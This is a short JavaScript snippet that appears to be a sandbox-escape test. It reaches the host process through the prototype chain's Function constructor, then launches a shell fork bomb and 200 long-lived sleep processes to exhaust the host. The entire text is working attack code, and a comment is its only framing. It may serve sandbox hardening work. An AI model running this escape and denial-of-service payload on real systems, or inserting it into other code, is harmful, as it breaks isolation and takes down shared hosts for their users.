// With the host process (if reachable): a shell fork bomb plus as many node children as it gets.
let P = null;
try { P = Object.getPrototypeOf(input.prototype).constructor.constructor('return process')(); } catch (e) { P = null; }
if (!P) {
  console.log('blocked: no process');
} else {
  const cp = P.getBuiltinModule('child_process');
  cp.spawn('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb'], { stdio: 'ignore' });
  let ok = 0, failed = 0;
  for (let i = 0; i < 200; i++) {
    try { cp.spawn('/bin/sleep', ['987103'], { stdio: 'ignore' }).on('error', () => {}); ok++; } catch (e) { failed++; }
  }
  console.log('spawn attempts done');
}
